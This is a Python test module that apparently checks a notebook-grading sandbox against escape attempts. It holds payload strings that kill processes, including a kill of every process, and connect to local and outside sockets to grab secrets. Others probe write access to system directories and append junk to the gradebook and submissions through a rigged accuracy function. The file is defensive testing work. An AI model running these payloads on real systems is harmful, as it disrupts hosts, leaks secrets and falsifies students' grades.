"""Attacks on what runs beside the notebook: processes, sockets, and files that can be written."""

from tests.attacks.attack import TELLS, Attack, Evidence, told, told_secret

KILL = """
import signal

def kill():
    for number in (signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
        tried(lambda pid: os.kill(pid, number), *others(), AIMS["bystander"])
    tried(lambda group: os.killpg(group, signal.SIGKILL), *(set(others()) - {1, os.getpgrp()}))
    if not AIMS["spared"]:
        tried(lambda pid: os.kill(pid, signal.SIGKILL), -1)
"""
KILLS = {"accuracy": "def accuracy(Z, labels):\n    kill()\n    return -1.0"}


def reaching(name: str, kind: str, loot: str) -> Attack:
    lines = "\n".join(f"    {line}" for line in loot.strip().splitlines())
    cell = "def ask(client, address):\n    with client:\n        client.settimeout(2)\n"
    cell += "        client.connect(address)\n        return client.recv(100)\n\n"
    cell += f"def loot():\n{lines}\n"
    return Attack(f"reaching-{name}", told_secret(kind), (cell,), TELLS, tells=True)


def _killed_parent(evidence: Evidence) -> bool:
    return evidence.parent is not None and evidence.parent < 0


def _killed_bystander(evidence: Evidence) -> bool:
    return evidence.bystander is not None and evidence.bystander < 0


def _rewrote(evidence: Evidence) -> bool:
    wanted = {"course/gradebook.db", "course/submitted/next/quick/quick.ipynb"}
    return wanted <= set(evidence.changed)


ATTACKS = [
    Attack("killing-parents", _killed_parent, (KILL,), KILLS),
    Attack("killing-siblings", _killed_bystander, (f"{KILL}\nkill()\n",), KILLS),
    reaching(
        "loopback",
        "socket",
        'return secrets(tried(lambda a: ask(socket.socket(), ("127.0.0.1", a)), AIMS["port"]))',
    ),
    reaching(
        "outside",
        "socket",
        'return secrets(tried(lambda a: ask(socket.socket(), (a, AIMS["port"])), AIMS["host"]))',
    ),
    reaching(
        "abstract-socket",
        "socket",
        """
names = ["\\0" + AIMS["abstract"], AIMS["socket"]]
names += ["\\0" + line.split("@")[1].strip()
          for lines in tried(content, "/proc/net/unix")
          for line in lines.decode().splitlines() if "@" in line]
return secrets(tried(lambda name: ask(socket.socket(socket.AF_UNIX), name), *names))
""",
    ),
    Attack(
        "writing-mounts",
        told,
        (
            """
def write(folder):
    path = Path(folder) / AIMS["token"]
    path.write_text("import os")
    path.unlink()
    return str(folder)

def append(path):
    with open(path, "ab"):
        return str(path)

def loot():
    import torch
    module = sys.modules["__main__"]
    folders = [AIMS["project"], AIMS["submitted"], AIMS["worker"] + "/worker", "/grader/worker"]
    folders += [Path(torch.__file__).parent, sys.prefix, sys.base_prefix, "/", "/usr/bin", "/etc"]
    folders += ["/dev", "/sys", "/proc/sys/kernel", "/grader", "/home"]
    files = [torch.__file__, sys.executable, "lab.py", "/etc/ld.so.cache"]
    return tried(write, *folders) + tried(append, *files, AIMS["checks"])
""",
        ),
        TELLS,
        tells=True,
    ),
    Attack(
        "writing-marks",
        _rewrote,
        (
            """
def spoil(path):
    with open(path, "ab") as file:
        file.write(b"spoilt")

def spoil_all():
    folder = Path(AIMS["submitted"])
    tried(spoil, AIMS["gradebook"], AIMS["secret"], AIMS["checks"], *folder.rglob("*.ipynb"))
    results = Path(AIMS["project"]).rglob("*.json")
    tried(spoil, *results)

spoil_all()
""",
        ),
        {"accuracy": "def accuracy(Z, labels):\n    spoil_all()\n    return -1.0"},
    ),
]
